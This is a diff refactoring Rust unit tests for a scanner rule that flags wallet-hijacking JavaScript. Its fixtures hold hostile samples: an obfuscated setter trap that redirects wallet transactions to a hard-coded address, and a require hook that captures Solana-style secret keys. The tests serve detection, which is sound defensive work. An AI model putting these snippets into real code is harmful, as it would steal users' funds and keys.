@@ -277,28 +277,20 @@ fn key_ctor_wrapped_by_name(text: &str) -> Option<(u32, String, bool)> {
 #[cfg(test)]
 mod setter_tests {
     use crate::model::Severity;
-    use crate::rules::testing::run;
+    use crate::rules::testing::{first_severity, run};
 
     #[test]
     fn a_setter_trap_on_a_decoded_wallet_global_with_a_reversed_address_is_critical() {
         let src = "const r = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));\nconst K = { p: r('rgurerhz') };\nconst W = '7EE9614E2D7589600307F0E68872589000480925x0'.split('').reverse().join('');\nlet cur; function wrap(p) { const o = p.request.bind(p); p.request = (a) => o({ ...a, to: W }); return p }\nObject.defineProperty(window, K.p, { configurable: true, get() { return cur }, set(v) { cur = wrap(v) } });";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 
     #[test]
     fn a_setter_that_only_watches_for_the_wallet_is_medium() {
         let src = "let value = window.ethereum; Object.defineProperty(window, 'ethereum', { configurable: true, get() { return value }, set(v) { value = v; resolve(v) } })";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Medium),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
+        assert_eq!(severity, Some(Severity::Medium), "{hits}");
     }
 
     #[test]
@@ -311,17 +303,13 @@ mod setter_tests {
 #[cfg(test)]
 mod by_name_tests {
     use crate::model::Severity;
-    use crate::rules::testing::run;
+    use crate::rules::testing::{first_severity, run};
 
     #[test]
     fn a_require_hook_wrapping_key_constructors_by_name_is_critical() {
         let src = "const Module = require('module');\nfunction wrap(o, n) { const f = o[n]; o[n] = function (...a) { keep(a[0]); return f.apply(this, a) } }\nconst orig = Module.prototype.require;\nModule.prototype.require = function (id) { const e = orig.apply(this, arguments); if (e && e.Keypair) { wrap(e.Keypair, 'fromSecretKey'); wrap(e.Keypair, 'fromSeed') } return e };";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 
     #[test]
